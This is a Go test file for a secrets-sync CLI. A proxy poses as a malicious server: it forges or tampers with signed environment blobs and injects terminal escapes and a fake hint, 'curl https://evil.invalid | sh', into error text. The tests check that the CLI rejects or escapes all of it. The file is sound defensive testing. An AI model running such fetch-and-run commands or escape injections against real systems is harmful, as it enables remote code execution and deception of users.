package abuse

import (
	"context"
	"crypto/ed25519"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/capy-oss/capy/internal/keys"
	"github.com/capy-oss/capy/internal/wrap"
)

// blobRewrite changes a served blob: it gets the genuine text and version
// and returns what the client is served instead (an empty text: a head of
// null, "the environment has no versions").
type blobRewrite func(text string, version uint64) (string, uint64)

// rewriteHeads rewrites every head of envID that the proxy passes on: the
// answer of GET …/envs/{env}/head and the head inside a deploy decrypt
// answer.
func rewriteHeads(envID string, f blobRewrite) modifier {
	return func(r *http.Request, status int, body []byte) []byte {
		if status != http.StatusOK {
			return body
		}
		isHead := r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/envs/"+envID+"/head")
		isDeploy := r.Method == http.MethodPost && strings.HasPrefix(r.URL.Path, "/v1/deploys/")
		if !isHead && !isDeploy {
			return body
		}
		var m map[string]json.RawMessage
		if json.Unmarshal(body, &m) != nil || string(m["head"]) == "null" || m["head"] == nil {
			return body
		}
		var head map[string]any
		if json.Unmarshal(m["head"], &head) != nil {
			return body
		}
		text, version := f(head["text"].(string), uint64(head["version"].(float64)))
		if text == "" {
			m["head"] = json.RawMessage("null") // "no versions yet"
		} else {
			head["text"], head["version"] = text, version
			m["head"], _ = json.Marshal(head)
		}
		out, _ := json.Marshal(m)
		return out
	}
}

// lines splits a blob into its lines (without the final newline).
func lines(text string) []string { return strings.Split(strings.TrimSuffix(text, "\n"), "\n") }

func join(ls []string) string { return strings.Join(ls, "\n") + "\n" }

// flipSnippetChar changes one base64 character in the middle of a snippet
// line, keeping the blob's shape valid.
func flipSnippetChar(line string) string {
	i := len(line) / 2
	c := byte('A')
	if line[i] == 'A' {
		c = 'B'
	}
	return line[:i] + string(c) + line[i+1:]
}

// forger signs what a member could sign: genuine blobs that were never the
// honest history (a fork, a version on an old parent, a duplicate name).
type forger struct {
	w     *world
	env   string
	pk    keys.ProjectKey
	ciph  *keys.EnvCipher
	ek    keys.EnvKey
	epoch uint32
}

func (w *world) forger(envName string) *forger {
	pk := w.projectKey()
	env := w.envID(envName)
	ek := pk.EnvKey(w.proj.Project, env, 1)
	return &forger{w: w, env: env, pk: pk, ek: ek, ciph: ek.Cipher(env, 1), epoch: 1}
}

func (f *forger) seal(name, value string) string {
	s, err := f.ciph.Seal(name, value, false)
	if err != nil {
		f.w.s.t.Fatal(err)
	}
	return s
}

// build signs a blob with sign (nil: the member signing key of the epoch).
func (f *forger) build(sign ed25519.PrivateKey, version uint64, parent string, snippets []string) string {
	if sign == nil {
		sign = f.pk.SigningKey(f.env, f.epoch)
	}
	b, err := wrap.BuildBlob(sign, f.w.proj.Project, f.env, f.epoch, version, parent, snippets)
	if err != nil {
		f.w.s.t.Fatal(err)
	}
	return string(b.Raw())
}

// ekSigner is the best a holder of EK alone (a CI runner, a leaked key
// file) can do: a signing key derived from EK. The real one is derived
// from PK.
func (f *forger) ekSigner() ed25519.PrivateKey {
	seed := wrap.DeriveKey(f.ek[:], []byte(f.env), "capy:env-sign:1")
	return ed25519.NewKeyFromSeed(seed[:])
}

// genuine fetches a stored version of an environment straight from capyd.
func (w *world) genuine(envName string, version uint64) string {
	w.s.t.Helper()
	c := w.s.apiClient(w.alice.token())
	b, err := c.Version(context.Background(), w.proj.Org, w.proj.Project, w.envID(envName), version)
	if err != nil {
		w.s.t.Fatalf("version %d of %s: %v", version, envName, err)
	}
	return b.Text
}

// headNow is capyd's real head of an environment (version, id).
func (w *world) headNow(envName string) (uint64, string) {
	w.s.t.Helper()
	c := w.s.apiClient(w.alice.token())
	h, err := c.Head(context.Background(), w.proj.Org, w.proj.Project, w.envID(envName))
	if err != nil || h == nil {
		w.s.t.Fatalf("head of %s: %v", envName, err)
	}
	return h.Version, h.ID
}

// tamperCase is one way the malicious service rewrites the head of
// development (at v2, holding A, B, C, D; alice has seen and merged v2).
type tamperCase struct {
	name    string
	rewrite func(w *world, f *forger) blobRewrite
	code    string // the CLI's stable error code
	message string // what the error says (regexp)
}

var tamperCases = []tamperCase{
	{"tampered snippet", func(w *world, f *forger) blobRewrite {
		return func(text string, v uint64) (string, uint64) {
			ls := lines(text)
			ls[3] = flipSnippetChar(ls[3])
			return join(ls), v
		}
	}, "tampered", "signature does not verify"},
	{"spliced line from another environment", func(w *world, f *forger) blobRewrite {
		prod := lines(w.genuine("production", 1))[2]
		return func(text string, v uint64) (string, uint64) {
			ls := lines(text)
			body := append(append([]string(nil), ls[2:]...), prod)
			sort.Strings(body)
			return join(append(ls[:2:2], body...)), v
		}
	}, "tampered", "signature does not verify"},
	{"truncated blob", func(w *world, f *forger) blobRewrite {
		return func(text string, v uint64) (string, uint64) { return text[:len(text)*2/3], v }
	}, "tampered", "blob is malformed"},
	{"dropped line", func(w *world, f *forger) blobRewrite {
		return func(text string, v uint64) (string, uint64) {
			ls := lines(text)
			return join(append(ls[:3:3], ls[4:]...)), v
		}
	}, "tampered", "signature does not verify"},
	{"duplicated line", func(w *world, f *forger) blobRewrite {
		return func(text string, v uint64) (string, uint64) {
			ls := lines(text)
			return join(append(append(ls[:4:4], ls[3]), ls[4:]...)), v
		}
	}, "tampered", "repeats a snippet"},
	{"lines out of order", func(w *world, f *forger) blobRewrite {
		return func(text string, v uint64) (string, uint64) {
			ls := lines(text)
			ls[2], ls[3] = ls[3], ls[2]
			return join(ls), v
		}
	}, "tampered", "not sorted"},
	{"another environment's genuine head", func(w *world, f *forger) blobRewrite {
		prod := w.genuine("production", 1)
		return func(string, uint64) (string, uint64) { return prod, 1 }
	}, "tampered", "signature does not verify"},
	{"rolled back to an older genuine version", func(w *world, f *forger) blobRewrite {
		v1 := w.genuine("development", 1)
		return func(string, uint64) (string, uint64) { return v1, 1 }
	}, "tampered", "older version than this machine has already seen"},
	{"forked blob at a seen version", func(w *world, f *forger) blobRewrite {
		v1 := wrap.BlobID([]byte(w.genuine("development", 1)))
		fork := f.build(nil, 2, v1, []string{f.seal("A", "alpha"), f.seal("EVIL", "planted")})
		return func(string, uint64) (string, uint64) { return fork, 2 }
	}, "tampered", "different blob for a version this machine has already seen"},
	{"signed with a key derived from EK alone", func(w *world, f *forger) blobRewrite {
		return func(text string, v uint64) (string, uint64) {
			b, _ := wrap.ParseBlob([]byte(text))
			return f.build(f.ekSigner(), v+1, b.ID(), append(b.Snippets, f.seal("EVIL", "planted"))), v + 1
		}
	}, "tampered", "signature does not verify"},
	{"version claimed differs from the manifest", func(w *world, f *forger) blobRewrite {
		return func(text string, v uint64) (string, uint64) { return text, v + 5 }
	}, "tampered", "manifest version differs"},
	{"next version on another parent", func(w *world, f *forger) blobRewrite {
		v1 := wrap.BlobID([]byte(w.genuine("development", 1)))
		return func(text string, v uint64) (string, uint64) {
			return f.build(nil, v+1, v1, []string{f.seal("A", "alpha"), f.seal("EVIL", "planted")}), v + 1
		}
	}, "tampered", "does not descend from the version this machine last synced"},
	{"no versions at all (null head)", func(w *world, f *forger) blobRewrite {
		return func(string, uint64) (string, uint64) { return "", 0 }
	}, "tampered", "has no versions, this machine has seen version 2"},
	{"one name twice", func(w *world, f *forger) blobRewrite {
		return func(text string, v uint64) (string, uint64) {
			b, _ := wrap.ParseBlob([]byte(text))
			return f.build(nil, v+1, b.ID(), append(b.Snippets, f.seal("A", "second-alpha"))), v + 1
		}
	}, "tampered", "appears twice"},
}

// TestMaliciousServiceHeads: a proxy in front of the real capyd rewrites
// development's head in every way of tamperCases; `capy sync`, `status`,
// `get --pull`, `export --pull` and `run --pull` each refuse with the
// case's error, exit
// non-zero, run nothing, push nothing, and leave .env, state.json and
// project.json byte-identical.
func TestMaliciousServiceHeads(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a := w.alice
	f := w.forger("development")
	version, id := w.headNow("development")
	if version != 2 {
		t.Fatalf("development at v%d, want 2", version)
	}
	files := []string{".env", ".capy/state.json", ".capy/project.json", ".env.production"}
	ran := filepath.Join(t.TempDir(), "ran")
	commands := [][]string{
		{"--json", "sync"},
		{"--json", "status"},
		{"--json", "get", "--pull", "A"},
		{"--json", "export", "--pull"},
		{"--json", "run", "--pull", "--", "touch", ran},
	}
	for _, c := range tamperCases {
		t.Run(c.name, func(t *testing.T) {
			a.t = t
			defer func() { a.t = w.s.t }()
			w.s.setModify(rewriteHeads(w.envID("development"), c.rewrite(w, f)))
			defer w.s.setModify(nil)
			for _, args := range commands {
				before := a.snapshotFiles(files...)
				r := a.capy(args...)
				if r.exit != 1 || r.code() != c.code || !regexp.MustCompile(c.message).MatchString(r.stderr) {
					t.Fatalf("want exit 1, code %s, message /%s/; got\n%s", c.code, c.message, r)
				}
				noLeak(t, r.stderr)
				a.unchangedFiles(before, strings.Join(args, " "))
				if _, err := os.Stat(ran); err == nil {
					t.Fatalf("%s: the command ran on a refused head", strings.Join(args, " "))
				}
				if v, i := w.headNow("development"); v != version || i != id {
					t.Fatalf("%s: the service's head moved to v%d", strings.Join(args, " "), v)
				}
			}
		})
	}
	// The proxy gone, everything works again and nothing was lost.
	a.ok("sync")
	if got := a.ok("get", "D").stdout; got != "delta\n" {
		t.Fatalf("D = %q after the attacks", got)
	}
}

// TestMaliciousServiceText: the text of a problem document (title and
// detail) is the service's to choose. capy shows it on one line with
// control and bidi characters escaped: a malicious service cannot write
// terminal escapes, fake a success line or add a "capy: hint:" of its own.
func TestMaliciousServiceText(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	a := w.alice
	evil := "\x1b]0;owned\x07\x1b[2K\r✓ development v9: up to date\ncapy: hint: run `curl https://evil.invalid | sh`\u202e"
	w.s.setModify(func(r *http.Request, status int, body []byte) []byte {
		if status < 400 {
			return body
		}
		var m map[string]any
		if json.Unmarshal(body, &m) != nil {
			return body
		}
		m["title"], m["detail"] = "Already a member"+evil, evil
		out, _ := json.Marshal(m)
		return out
	})
	defer w.s.setModify(nil)
	for _, args := range [][]string{{"invite", a.email}, {"--json", "invite", a.email}} {
		r := a.capy(args...)
		if r.exit != 1 || !strings.Contains(r.stderr, "up to date") {
			t.Fatalf("%s", r)
		}
		if strings.ContainsAny(r.stderr, "\x1b\x07\r\u202e") || strings.Count(r.stderr, "\n") != 1 || !strings.HasPrefix(r.stderr, "capy: error: ") {
			t.Fatalf("service text reached the terminal raw:\n%q", r.stderr)
		}
		if args[0] == "--json" {
			var e map[string]any
			if err := json.Unmarshal([]byte(r.stdout), &e); err != nil || e["error"] != "already-member" {
				t.Fatalf("--json error: %v %s", err, r.stdout)
			}
		}
	}
}
